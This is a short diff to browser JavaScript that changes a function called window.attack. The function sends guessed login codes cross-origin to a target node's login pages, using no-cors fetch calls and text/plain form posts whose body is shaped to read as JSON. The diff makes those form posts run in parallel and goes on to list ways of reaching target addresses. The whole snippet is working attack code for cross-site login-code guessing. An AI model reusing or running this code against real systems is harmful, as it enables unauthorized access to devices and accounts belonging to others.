@@ -178,6 +178,8 @@ function reach(url) {
 /** @param targets addresses of the node, by what they are; `documents` are those that documents are made of; and codes, by which a page of the node would log in */
 window.attack = async ({ targets, documents, logins, codes }) => {
   const results = {}
+  // No browser tells how a form ended that it did not let through: the time for that is given to all of them together.
+  const forms = []
   for (const url of logins) {
     for (const code of codes) {
       const body = JSON.stringify({ code })
@@ -193,9 +195,10 @@ window.attack = async ({ targets, documents, logins, codes }) => {
         body: new Blob([body], { type: 'application/json' }),
         mode: 'no-cors',
       })
-      await form(url, 'text/plain', { '{"code":"': `${code}"}` })
+      forms.push(form(url, 'text/plain', { '{"code":"': `${code}"}` }))
     }
   }
+  await Promise.all(forms)
   const ways = Object.entries(targets).flatMap(([what, url]) => {
     const all = documents.includes(what) ? { ...reach(url), ...reachByDocuments(url) } : reach(url)
     return Object.entries(all).map(([how, start]) => [`${what}: ${how}`, start])
